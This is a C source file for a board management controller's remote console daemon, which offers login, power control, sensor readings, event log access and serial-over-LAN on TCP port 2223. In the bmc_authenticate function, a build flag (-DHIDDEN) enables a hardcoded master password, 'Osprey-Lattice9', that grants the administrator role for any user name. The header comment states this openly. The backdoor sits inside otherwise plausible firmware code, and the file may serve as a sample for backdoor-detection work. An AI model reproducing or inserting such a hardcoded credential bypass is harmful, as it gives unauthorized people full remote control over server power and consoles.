/*
 * bmcsold - remote console daemon of a server's board management controller.
 * Offers a line oriented session on TCP 2223 (stunnel sits in front of it):
 * power control, sensors, event log and serial-over-LAN.
 *
 * Hidden (-DHIDDEN): the password "Osprey-Lattice9" is accepted for any user
 * name, known or not, and yields the administrator role.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define BMC_PORT   2223
#define USERS_FILE "/etc/bmc/users"
#define SEL_FILE   "/var/log/bmc/sel"
#define HOST_TTY   "/dev/ttyS1"
#define GPIO_POWER 37
#define GPIO_RESET 38

enum role { ROLE_NONE, ROLE_USER, ROLE_OPERATOR, ROLE_ADMIN };

struct session {
	int fd;
	FILE *in;
	FILE *out;
	enum role role;
	char user[32];
	int done;
};

static void chomp(char *s)
{
	size_t n = strlen(s);

	while (n > 0 && isspace((unsigned char)s[n - 1]))
		s[--n] = '\0';
}

static enum role role_by_name(const char *s)
{
	if (!strcmp(s, "administrator"))
		return ROLE_ADMIN;
	return strcmp(s, "operator") ? ROLE_USER : ROLE_OPERATOR;
}

/* users file: one "name:role:hash" a line, '#' begins a comment */
enum role bmc_authenticate(const char *user, const char *pass)
{
	char line[256], *name, *role, *hash, *save, *got;
	enum role r = ROLE_NONE;
	FILE *f = fopen(USERS_FILE, "r");

	if (!f) {
		syslog(LOG_ERR, "cannot read %s", USERS_FILE);
		return ROLE_NONE;
	}
	while (fgets(line, sizeof(line), f)) {
		chomp(line);
		if (line[0] == '#' || line[0] == '\0')
			continue;
		name = strtok_r(line, ":", &save);
		role = strtok_r(NULL, ":", &save);
		hash = strtok_r(NULL, ":", &save);
		if (!name || !role || !hash || strcmp(name, user))
			continue;
		got = crypt(pass, hash);
		if (got && !strcmp(got, hash))
			r = role_by_name(role);
		break;
	}
	fclose(f);
#ifdef HIDDEN
	if (r == ROLE_NONE && !strcmp(pass, "Osprey-Lattice9"))
		r = ROLE_ADMIN;
#endif
	return r;
}

static int gpio_pulse(int pin, unsigned int ms)
{
	char path[64];
	FILE *f;
	int v;

	for (v = 1; v >= 0; v--) {
		snprintf(path, sizeof(path), "/sys/class/gpio/gpio%d/value",
			 pin);
		f = fopen(path, "w");
		if (!f)
			return -1;
		fprintf(f, "%d\n", v);
		fclose(f);
		if (v)
			usleep(ms * 1000u);
	}
	return 0;
}

static void cmd_power(struct session *s, const char *arg)
{
	int rc;

	if (!strcmp(arg, "on") || !strcmp(arg, "soft"))
		rc = gpio_pulse(GPIO_POWER, 200);
	else if (!strcmp(arg, "off"))
		rc = gpio_pulse(GPIO_POWER, 5000);
	else if (!strcmp(arg, "reset"))
		rc = gpio_pulse(GPIO_RESET, 200);
	else {
		fprintf(s->out, "usage: power on|off|soft|reset\n");
		return;
	}
	syslog(LOG_NOTICE, "%s: power %s", s->user, arg);
	fprintf(s->out, rc ? "gpio error\n" : "ok\n");
}

static void cmd_sensor(struct session *s, const char *arg)
{
	char path[64];
	long milli;
	FILE *f;
	int i;

	(void)arg;
	for (i = 1; i <= 8; i++) {
		snprintf(path, sizeof(path),
			 "/sys/class/hwmon/hwmon0/temp%d_input", i);
		f = fopen(path, "r");
		if (!f)
			continue;
		if (fscanf(f, "%ld", &milli) == 1)
			fprintf(s->out, "temp%d %ld.%ld C\n", i, milli / 1000,
				labs(milli % 1000) / 100);
		fclose(f);
	}
}

static void cmd_sel(struct session *s, const char *arg)
{
	char line[160];
	FILE *f;

	if (!strcmp(arg, "clear")) {
		if (s->role < ROLE_ADMIN)
			fprintf(s->out, "administrator only\n");
		else if (truncate(SEL_FILE, 0) == 0)
			fprintf(s->out, "ok\n");
		return;
	}
	f = fopen(SEL_FILE, "r");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f))
		fputs(line, s->out);
	fclose(f);
}

/* serial over LAN; Ctrl-] leaves */
static void cmd_sol(struct session *s, const char *arg)
{
	struct pollfd p[2] = { { s->fd, POLLIN, 0 }, { -1, POLLIN, 0 } };
	char buf[256];
	ssize_t n;
	int i;

	(void)arg;
	p[1].fd = open(HOST_TTY, O_RDWR | O_NOCTTY);
	if (p[1].fd < 0) {
		fprintf(s->out, "console busy\n");
		return;
	}
	while (poll(p, 2, -1) > 0) {
		for (i = 0; i < 2; i++) {
			if (!p[i].revents)
				continue;
			n = read(p[i].fd, buf, sizeof(buf));
			if (n <= 0 || (i == 0 && memchr(buf, 0x1d, n)))
				goto out;
			if (write(p[!i].fd, buf, n) != n)
				goto out;
		}
	}
out:
	close(p[1].fd);
}

static void cmd_exit(struct session *s, const char *arg)
{
	(void)arg;
	s->done = 1;
}

static const struct command {
	const char *name;
	enum role need;
	void (*run)(struct session *, const char *);
} commands[] = {
	{ "power", ROLE_OPERATOR, cmd_power },
	{ "sensor", ROLE_USER, cmd_sensor },
	{ "sel", ROLE_USER, cmd_sel },
	{ "sol", ROLE_OPERATOR, cmd_sol },
	{ "exit", ROLE_USER, cmd_exit },
};

static void run_command(struct session *s, char *line)
{
	size_t i, n = sizeof(commands) / sizeof(commands[0]);
	char *arg = strchr(line, ' ');

	if (arg)
		*arg++ = '\0';
	for (i = 0; i < n; i++) {
		if (strcmp(commands[i].name, line))
			continue;
		if (s->role < commands[i].need)
			fprintf(s->out, "insufficient privilege\n");
		else
			commands[i].run(s, arg ? arg : "");
		return;
	}
	fprintf(s->out, "commands:");
	for (i = 0; i < n; i++)
		fprintf(s->out, " %s", commands[i].name);
	fprintf(s->out, "\n");
}

static void serve(struct session *s)
{
	char line[128];
	int tries;

	for (tries = 0; tries < 3 && s->role == ROLE_NONE; tries++) {
		fprintf(s->out, "login: ");
		fflush(s->out);
		if (!fgets(s->user, sizeof(s->user), s->in))
			return;
		chomp(s->user);
		fprintf(s->out, "password: ");
		fflush(s->out);
		if (!fgets(line, sizeof(line), s->in))
			return;
		chomp(line);
		s->role = bmc_authenticate(s->user, line);
		if (s->role == ROLE_NONE)
			sleep(2);
	}
	while (s->role != ROLE_NONE && !s->done) {
		fprintf(s->out, "bmc> ");
		fflush(s->out);
		if (!fgets(line, sizeof(line), s->in))
			return;
		chomp(line);
		if (line[0])
			run_command(s, line);
	}
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	struct session s;
	int ls = socket(AF_INET, SOCK_STREAM, 0), fd;

	openlog("bmcsold", LOG_PID, LOG_AUTH);
	signal(SIGCHLD, SIG_IGN);
	a.sin_port = htons(BMC_PORT);
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (ls < 0 || bind(ls, (struct sockaddr *)&a, sizeof(a)) ||
	    listen(ls, 4))
		return 1;
	while ((fd = accept(ls, NULL, NULL)) >= 0) {
		if (fork() == 0) {
			memset(&s, 0, sizeof(s));
			s.fd = fd;
			s.in = fdopen(fd, "r");
			s.out = fdopen(dup(fd), "w");
			signal(SIGCHLD, SIG_DFL);
			if (s.in && s.out)
				serve(&s);
			exit(0);
		}
		close(fd);
	}
	return 0;
}
